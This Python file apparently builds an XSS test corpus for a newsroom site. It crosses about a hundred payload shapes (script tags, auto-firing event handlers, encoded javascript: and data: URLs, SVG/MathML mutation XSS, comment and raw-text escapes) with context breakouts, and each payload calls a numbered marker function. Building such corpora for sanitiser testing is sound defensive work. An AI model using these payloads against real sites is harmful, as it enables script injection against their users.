"""Our own XSS corpus: vector shapes crossed with the contexts they try to break out of.

Every payload calls `xss(N)` (or a dialog function) with its own number N, so a browser hook can name the
payload that ran. Shapes are the well-known families: script elements, event handlers, `javascript:` and
`data:` addresses and their encodings, SVG and MathML namespace confusion, mutation XSS through parser
differentials, markup that is broken on purpose, and escapes from attributes, comments and raw-text
elements. Payloads are kept short so that many fit in the newsroom's shorter fields.
"""

import base64

# Ways out of whatever context the value lands in: element text, a quoted attribute, a comment, CDATA,
# a raw-text element, a JSON string in a script block.
BREAKOUTS = [
    "",
    '">',
    "'>",
    "</p>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    '\\"};',
]

# `{n}` is the payload's number. Each shape runs code on its own, without a click, unless it is a link
# shape (checked by the hook for addresses a click would run).
SHAPES = [
    # classic script elements and their spellings
    "<script>xss({n})</script>",
    "<ScRiPt>xss({n})</sCrIpT>",
    "<script/x>xss({n})</script>",
    "<script src=data:,xss({n})></script>",
    "<script>/*</script>*/xss({n})</script>",
    "<scr<script>ipt>xss({n})</scr</script>ipt>",
    # event handlers that fire by themselves
    "<img src=x onerror=xss({n})>",
    "<img src=x onerror='xss({n})'>",
    '<img src="x" onerror="xss({n})"//',
    "<img/src/onerror=xss({n})>",
    "<IMG SRC=x OnErRoR=xss({n})>",
    "<img src=x onerror=&#x78;ss({n})>",
    "<svg onload=xss({n})>",
    "<svg/onload=xss({n})//",
    "<body onload=xss({n})>",
    "<details open ontoggle=xss({n})>",
    "<input autofocus onfocus=xss({n})>",
    "<select autofocus onfocus=xss({n})>",
    "<textarea autofocus onfocus=xss({n})>",
    "<video><source onerror=xss({n})>",
    "<audio src=x onerror=xss({n})>",
    "<iframe onload=xss({n})>",
    "<object data=x onerror=xss({n})>",
    "<marquee onstart=xss({n})>",
    "<style onload=xss({n})>",
    "<link rel=stylesheet href=x onerror=xss({n})>",
    "<div onmouseover=xss({n})>hover</div>",
    "<p onclick=xss({n})>click</p>",
    "<a onfocus=xss({n}) autofocus href=#>",
    "<img src=x:x onerror=window['x'+'ss']({n})>",
    "<img src=x onerror=eval('xs'+'s({n})')>",
    "<img src=x onerror=alert({n})>",
    "<svg><script>xss({n})</script></svg>",
    "<svg><script href=data:,xss({n}) />",
    "<svg><animate onbegin=xss({n}) attributeName=x dur=1s>",
    "<svg><set onbegin=xss({n}) attributeName=x>",
    # javascript: and vbscript: addresses, with the encodings browsers still decode
    "<a href=javascript:xss({n})>a</a>",
    "<a href=JaVaScRiPt:xss({n})>a</a>",
    "<a href=' javascript:xss({n})'>a</a>",
    "<a href=&#106;avascript:xss({n})>a</a>",
    "<a href=&#x6A;avascript&#x3A;xss({n})>a</a>",
    "<a href=java&#x09;script:xss({n})>a</a>",
    "<a href=java&#10;script:xss({n})>a</a>",
    "<a href=javascript&colon;xss({n})>a</a>",
    "<a href=vbscript:xss({n})>a</a>",
    "<iframe src=javascript:xss({n})>",
    "<form action=javascript:xss({n})><button>b</button></form>",
    "<button formaction=javascript:xss({n})>b</button>",
    "<math href=javascript:xss({n})>m</math>",
    "<svg><a xlink:href=javascript:xss({n})><text>a</text></a></svg>",
    "<svg><a href=javascript:xss({n})><text>a</text></a></svg>",
    "<base href=javascript:xss({n})//>",
    "<meta http-equiv=refresh content='0;url=javascript:xss({n})'>",
    "<object data=javascript:xss({n})>",
    "<embed src=javascript:xss({n})>",
    "<img src=javascript:xss({n})>",
    # data: addresses
    "<a href=data:text/html,<script>xss({n})</script>>d</a>",
    "<iframe src=data:text/html,<script>xss({n})</script>>",
    "<iframe src='data:text/html;base64,{b64}'>",
    "<object data=data:text/html,<script>xss({n})</script>>",
    "<embed src=data:image/svg+xml,<svg/onload=xss({n})>>",
    "<img src='data:image/svg+xml,<svg onload=xss({n})>'>",
    "<iframe srcdoc='<script>xss({n})</script>'>",
    "<iframe srcdoc=&lt;img/src/onerror=xss({n})&gt;>",
    # SVG and MathML namespace confusion, mutation XSS
    "<svg><style><img src=x onerror=xss({n})></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=xss({n})>",
    "<svg></p><style><a id='</style><img src=x onerror=xss({n})>'>",
    "<noscript><p title='</noscript><img src=x onerror=xss({n})>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss({n})>",
    "<math><mi><table><mi><style><img src=x onerror=xss({n})>",
    "<svg><foreignObject><img src=x onerror=xss({n})></foreignObject></svg>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=xss({n})>",
    "<svg><title><img src=x onerror=xss({n})></title></svg>",
    "<svg><desc><style><img src=x onerror=xss({n})>",
    "<template><img src=x onerror=xss({n})></template>",
    "<xmp><img src=x onerror=xss({n})></xmp>",
    "<noembed><img src=x onerror=xss({n})></noembed>",
    "<noframes><img src=x onerror=xss({n})></noframes>",
    "<listing>&lt;img src=x onerror=xss({n})&gt;</listing>",
    "<textarea><img src=x onerror=xss({n})></textarea>",
    "<title><img src=x onerror=xss({n})></title>",
    "<table><td><svg><img src=x onerror=xss({n})>",
    "<select><option><style><img src=x onerror=xss({n})>",
    "<a><table><a></table><img src=x onerror=xss({n})>",
    # comments, CDATA, processing instructions and broken markup
    "<!--<img src=x onerror=xss({n})>-->",
    "<!--><img src=x onerror=xss({n})>-->",
    "<!-- --!><img src=x onerror=xss({n})>-->",
    "<![CDATA[><img src=x onerror=xss({n})>]]>",
    "<?xml ?><img src=x onerror=xss({n})>",
    "<img src=x onerror=xss({n})",
    "<<script>xss({n})//<</script>",
    '<img """><script>xss({n})</script>">',
    "<img src=`x`onerror=xss({n})>",
    "<img src=x onerror\t=\txss({n})>",
    "<img src=x onerror\n=xss({n})>",
    '<a href="jav&#x0A;ascript:xss({n})">a</a>',
    '<div style="background:url(javascript:xss({n}))">s</div>',
    '<div style="x:expression(xss({n}))">s</div>',
    "<style>@import'javascript:xss({n})';</style>",
    '<p style="position:fixed;inset:0" onmouseenter=xss({n})>x</p>',
    # template and JSON contexts
    "{{{{xss({n})}}}}",
    "${{xss({n})}}",
    "\\u003cscript\\u003exss({n})\\u003c/script\\u003e",
    "</script><script>xss({n})</script>",
]


PER_SHAPE = 5  # each shape bare and behind four breakouts, taken in turn so every breakout is used


def corpus() -> list[str]:
    """Every shape bare and behind rotating breakouts, numbered; at least 500, none repeated."""
    payloads = []
    rest = BREAKOUTS[1:]
    for index, shape in enumerate(SHAPES):
        chosen = [""] + [
            rest[(index * (PER_SHAPE - 1) + k) % len(rest)] for k in range(PER_SHAPE - 1)
        ]
        for breakout in chosen:
            n = len(payloads) + 1
            script = f"<script>xss({n})</script>".encode()
            payloads.append(breakout + shape.format(n=n, b64=base64.b64encode(script).decode()))
    return payloads


PAYLOADS = corpus()
assert len(PAYLOADS) >= 500 and len(set(PAYLOADS)) == len(PAYLOADS)
